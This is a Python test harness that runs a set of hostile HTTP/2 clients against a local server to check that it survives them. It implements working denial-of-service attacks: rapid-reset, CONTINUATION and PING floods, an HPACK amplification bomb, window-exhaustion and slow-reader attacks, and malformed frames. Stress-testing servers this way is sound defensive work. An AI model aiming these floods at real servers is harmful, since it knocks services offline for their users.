"""Clients of HTTP/2 that a server must survive. Usage: http2_hostile.py ATTACK PORT SECONDS

Each attack runs on several connections at once, which are opened again when the server closes them. Prints one line of
JSON: how many connections it made, and how often each error code of GOAWAY and RST_STREAM arrived.
"""

import collections
import json
import socket
import struct
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONNECTIONS = 8
CODES = (
    "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED FRAME_SIZE_ERROR "
    "REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM INADEQUATE_SECURITY HTTP_1_1_REQUIRED"
).split()


class Connection:
    def __init__(self, port, settings=None):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.settimeout(20)
        self.encoder = Encoder()
        self.buffer = b""
        self.send(PREFACE, SettingsFrame(0, settings=settings or {}))

    def send(self, *frames):
        parts = [frame if isinstance(frame, bytes) else frame.serialize() for frame in frames]
        self.socket.sendall(b"".join(parts))

    def block(self, method="GET", path="/", extra=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path), *extra]
        return self.encoder.encode(fields)

    def headers(self, stream, flags=("END_HEADERS", "END_STREAM"), **request):
        return HeadersFrame(stream, data=self.block(**request), flags=flags)

    def frames(self):
        """What arrives, until the server closes the connection."""
        while True:
            while len(self.buffer) < 9:
                received = self.socket.recv(1 << 16)
                if not received:
                    return
                self.buffer += received
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            while len(self.buffer) < 9 + length:
                received = self.socket.recv(1 << 16)
                if not received:
                    return
                self.buffer += received
            yield type(frame).__name__, frame.stream_id, self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]


def rapid_reset(connection):
    """Requests that are canceled in the same segment, so that the server has not seen them yet."""
    for stream in range(1, 200_000, 2):
        connection.send(connection.headers(stream, path="/a"), RstStreamFrame(stream, error_code=8))


def late_reset(connection):
    """Requests that are canceled once the server has begun to forward them."""
    for stream in range(1, 200_000, 2):
        connection.send(connection.headers(stream, path="/late"))
        time.sleep(0.001)
        connection.send(RstStreamFrame(stream, error_code=8))


def continuation(connection):
    """A head that never ends."""
    connection.send(HeadersFrame(1, data=connection.block()))
    piece = connection.encoder.encode([(f"x-{number}", "y" * 1000) for number in range(14)])
    while True:
        connection.send(ContinuationFrame(1, data=piece))


def empty_continuation(connection):
    """The same with frames that carry nothing, which no limit of bytes counts."""
    connection.send(HeadersFrame(1, data=connection.block()))
    while True:
        connection.send(ContinuationFrame(1, data=b"").serialize() * 1000)


def settings(connection):
    """Settings that each must be acknowledged, which the client does not read."""
    one = SettingsFrame(0, settings={4: 65_535}).serialize() + SettingsFrame(0, settings={4: 0}).serialize()
    while True:
        connection.send(one * 500)


def ping(connection):
    """Pings that each must be answered, which the client does not read."""
    one = PingFrame(0, opaque_data=b"x" * 8).serialize()
    while True:
        connection.send(one * 1000)


def read_ping(connection):
    """Pings, whose answers the client reads."""
    one = PingFrame(0, opaque_data=b"x" * 8).serialize()
    while True:
        connection.send(one * 500)
        if not connection.socket.recv(1 << 16):
            return


def pong(connection):
    """Answers to pings that the server has not sent, of which the h2 crate warns in the log."""
    one = PingFrame(0, opaque_data=b"x" * 8, flags=["ACK"]).serialize()
    while True:
        connection.send(one * 1000)


def malformed(connection):
    """Requests without a path, whose resets the client does not read."""
    block = connection.encoder.encode([(":method", "GET")])
    for stream in range(1, 200_000, 2):
        connection.send(HeadersFrame(stream, data=block, flags=("END_HEADERS", "END_STREAM")))


def connect_with_content(connection):
    """Requests for a tunnel, whose resets the client does not read."""
    block = connection.encoder.encode([(":method", "CONNECT"), (":authority", "localhost:443"), ("content-length", "5")])
    for stream in range(1, 200_000, 2):
        connection.send(HeadersFrame(stream, data=block, flags=("END_HEADERS",)))


def empty_data(connection):
    """Frames of a body that carry nothing, which no window counts."""
    connection.send(connection.headers(1, ("END_HEADERS",), method="POST", path="/upload"))
    one = DataFrame(1, data=b"").serialize()
    while True:
        connection.send(one * 1000)


def padded_data(connection):
    """Frames of a body that consist of padding."""
    connection.send(connection.headers(1, ("END_HEADERS",), method="POST", path="/upload"))
    window, one = 65_535, DataFrame(1, data=b"", flags=("PADDED",), pad_length=255).serialize()
    while window > 256:
        connection.send(one)
        window -= 256
    for _ in connection.frames():
        connection.send(one)


def hpack_bomb(connection):
    """Heads of a few bytes that refer to a field of 4 KiB thousands of times."""
    first = connection.block(extra=[("x-bomb", "y" * 3900)])
    connection.send(HeadersFrame(1, data=first, flags=("END_HEADERS", "END_STREAM")))
    again = connection.block()
    for stream in range(3, 20_000, 2):
        # 0xBE is the newest entry of the dynamic table.
        connection.send(HeadersFrame(stream, data=again + b"\xbe" * 16_000, flags=("END_HEADERS", "END_STREAM")))


def zero_window(connection):
    """Requests for large responses, for which the client makes no room."""
    for stream in range(1, 400, 2):
        connection.send(connection.headers(stream, path="/download?bytes=200000"))


def slow_reader(connection):
    """A hundred large responses, with all the room there can be, which the client does not read."""
    connection.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65_535))
    for stream in range(1, 201, 2):
        connection.send(connection.headers(stream, path="/download?bytes=1000000"))
    time.sleep(60)


def stalled_uploads(connection):
    """Uploads to an API that reads nothing, as much as the windows allow."""
    for stream in range(1, 201, 2):
        connection.send(connection.headers(stream, ("END_HEADERS",), method="POST", path="/stuck"))
    windows = collections.Counter({0: 65_535})
    size = 65_535

    def more():
        for stream in range(1, 201, 2):
            while windows[0] >= 16_000 and size + windows[stream] >= 16_000:
                connection.send(DataFrame(stream, data=b"x" * 16_000))
                windows[0] -= 16_000
                windows[stream] -= 16_000

    for name, stream, payload in connection.frames():
        if name == "WindowUpdateFrame":
            windows[stream] += struct.unpack(">L", payload)[0]
        if name == "SettingsFrame":
            if payload:
                connection.send(SettingsFrame(0, flags=["ACK"]))  # only now do larger windows apply
            for at in range(0, len(payload), 6):
                identifier, value = struct.unpack(">HL", payload[at : at + 6])
                size = value if identifier == 4 else size
        more()


def window_overflow(connection):
    """More than the largest window there is."""
    connection.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1))


def stream_window_overflow(connection):
    connection.send(connection.headers(1, ("END_HEADERS",), method="POST", path="/upload"))
    connection.send(WindowUpdateFrame(1, window_increment=(1 << 31) - 1))


def headers_after_end(connection):
    """A second head after the end of the stream."""
    connection.send(connection.headers(1, path="/late"), connection.headers(1, path="/late"))


def oversized_frame(connection):
    connection.send(connection.headers(1, ("END_HEADERS",), method="POST", path="/upload"))
    connection.send(b"\x00\x40\x01\x00\x00\x00\x00\x00\x01" + b"x" * 16_385)


def even_stream(connection):
    connection.send(connection.headers(2))


def data_on_idle_stream(connection):
    connection.send(DataFrame(5, data=b"x"))


def bad_hpack(connection):
    connection.send(HeadersFrame(1, data=b"\xff\xff\xff\xff\xff\xff", flags=("END_HEADERS", "END_STREAM")))


def too_many_streams(connection):
    for stream in range(1, 401, 2):
        connection.send(connection.headers(stream, path="/late"))


def attack(act, port, until, report, settings=None):
    while time.monotonic() < until:
        try:
            connection = Connection(port, settings)
        except OSError:
            time.sleep(0.01)
            continue
        report["connections"] += 1
        try:
            act(connection)
        except OSError:
            pass
        connection.socket.settimeout(6)
        try:
            for name, stream, payload in connection.frames():
                if name == "GoAwayFrame":
                    report["GOAWAY " + CODES[struct.unpack(">LL", payload[:8])[1]]] += 1
                if name == "RstStreamFrame":
                    report["RST_STREAM " + CODES[struct.unpack(">L", payload)[0]]] += 1
                if name == "HeadersFrame":
                    report["responses"] += 1
            report["closed"] += 1
        except OSError:
            pass
        connection.socket.close()


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    act = globals()[name]
    report, until = collections.Counter(), time.monotonic() + seconds
    settings = {zero_window: {4: 0}, slow_reader: {4: (1 << 31) - 1}}.get(act)
    arguments = (act, port, until, report, settings)
    connections = 2 if act in (slow_reader, zero_window) else CONNECTIONS  # more would occupy the API
    threads = [threading.Thread(target=attack, args=arguments, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0, until - time.monotonic()) + 8)
    print(json.dumps(report))


main()
